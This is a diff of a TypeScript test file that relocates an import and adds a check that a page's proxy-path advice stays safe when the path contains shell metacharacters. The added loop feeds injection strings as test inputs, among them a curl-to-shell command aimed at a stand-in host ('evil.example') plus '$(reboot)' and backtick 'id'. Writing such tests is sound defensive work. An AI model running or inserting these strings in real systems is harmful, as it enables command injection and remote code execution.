@@ -4,9 +4,9 @@ import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { suite, test } from 'node:test';
 import { refusal, type Refusal } from '../../src/errors.ts';
-import { familyOf } from '../../src/page/client-family.ts';
 import { SETTINGS } from '../../src/page/html/advice.ts';
 import { connect } from '../../src/page/html/connect.ts';
+import { familyOf } from '../../src/page/refusal-groups.ts';
 import { refusals } from '../../src/page/html/refusals.ts';
 import { Watch } from '../../src/page/watch.ts';
 import { SimulatedTime } from '../support/simulated-time.ts';
@@ -56,6 +56,12 @@ suite('what the page says of a refusal', () => {
     assert.match(doubled, /has \/api\/v1 too much in its URL/);
     assert.doesNotMatch(doubled, /root-path/);
     assert.match(pathAdvice('/base/api/v1/lineage'), /start the proxy with --root-path \/base/);
+    // Anyone may have sent a path, and people copy a command.
+    for (const path of ['/x;curl${IFS}evil.example|sh', '/$(reboot)', '/a b', '/`id`']) {
+      const text = pathAdvice(`${path}/api/v1/lineage`);
+      assert.match(text, /too much in its URL/);
+      assert.doesNotMatch(text, /root-path/);
+    }
   });
 
   test('tells two kinds of clients apart that have one address', () => {
